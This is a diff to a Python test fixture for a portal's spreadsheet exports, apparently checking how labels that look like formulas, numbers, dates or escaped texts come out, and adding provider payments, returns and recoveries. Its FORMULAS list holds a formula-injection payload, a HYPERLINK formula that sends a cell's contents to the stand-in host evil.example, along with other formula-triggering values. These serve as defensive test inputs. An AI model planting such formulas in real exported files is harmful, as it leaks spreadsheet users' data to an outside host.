@@ -7,12 +7,20 @@ from portal import ROOT
 
 SOURCE = "exports"
 
-# What a spreadsheet would calculate, or would cut a cell at.
-LABELS = [
-    '=HYPERLINK("http://evil.example/?a="&A1;"Facture")', "+33 1 40 00 00 00", "-2+3", "@SUM(A1:A9)", "=1+1",
-    "＝1+1", 'Un "mot" ; un autre', "Œuvre à 1 234,56 €", "000123", "1,5", "31/12/2011",
+# What a spreadsheet would calculate.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?a="&A1;"Facture")', "+33 1 40 00 00 00", "-2+3", "@SUM(A1:A9)", "=1+1", "＝1+1",
 ]
-HARMFUL = set(LABELS[:6])
+# What it would take for a number, a date, a time, a truth value or an error, and lose zeros and digits of.
+TAKEN = [
+    "000123", "004217", "0007", "1E5", "12e3", "1,5", "50 %", "(5)", "1 1/2", "10 €", "12.03.2012", "12/3", "31/12/2011",
+    "2012-03-12", "mars 2012", "12 mars", "12:30", "53384615000019", "12345678901234567890", "VRAI", "#N/A", "½",
+]
+# What is plainly a text, and what it would cut a cell at.
+PLAIN = ['Un "mot" ; un autre', "Œuvre à 1 234,56 €", "Facture 118", "2 jours", "V-2012-0042"]
+# What begins as the mark does that keeps a text a text.
+MARKED = ["'abc", "'=1+1"]
+LABELS = [*FORMULAS, *TAKEN, *PLAIN, *MARKED]
 
 
 def first_account():
@@ -23,7 +31,7 @@ def first_account():
 
 
 def records(number):
-    """Two views, corrections, a payment that waits for its invoice, odd texts and numbers with zeros."""
+    """Two views, corrections, payments to both sides, one that waits for its invoice, odd texts, numbers with zeros."""
     key = iter(range(1, 1_000))
 
     def record(of, version=1, source_key=None, **fields):
@@ -38,10 +46,10 @@ def records(number):
         )
 
     def entry(action_id, kind, cents, date, **fields):
-        fields = {"label": "Écriture", **fields}
+        fields = {"label": "Écriture", "payee": "COMPANY", **fields}
         return record(
-            "entry", action_id=action_id, kind=kind, amount_cents=cents, effective_date=date,
-            cost_kind="TUITION", payee="COMPANY", **fields,
+            "entry", action_id=action_id, kind=kind, amount_cents=cents, effective_date=date, cost_kind="TUITION",
+            **{name: value for name, value in fields.items() if value is not None},
         )
 
     yield action("0001", "2011-12-31")
@@ -54,6 +62,11 @@ def records(number):
         "-0002", "PAYMENT_TO_COMPANY", 100_000_000_05, "2012-02-29",
         remittance_number="0000042", bank_reference="-CSTR 0042",
     )
+    to_provider = {"remittance_number": "12E3", "bank_reference": "0042"}
+    yield entry("0003", "PAYMENT_TO_PROVIDER", 50_00, "2012-03-05", payee="PROVIDER", invoice_number="1E5", **to_provider)
+    # Nobody says from whom it came back: from whom its transfer went to.
+    yield entry("0003", "PAYMENT_RETURNED", 7_00, "2012-03-09", payee=None, **to_provider)
+    yield entry("0003", "RECOVERY", 1_00, "2012-04-01", payee=None)
     yield entry("-0002", "INVOICE_RECEIVED", 4, "2012-03-01", invoice_number="-007")
     yield entry("0003", "INVOICE_RECEIVED", 70_01, "2012-03-01", invoice_number="00012")
     yield entry("0003", "COMMITMENT_REVISION", -33_33, "2012-03-31")
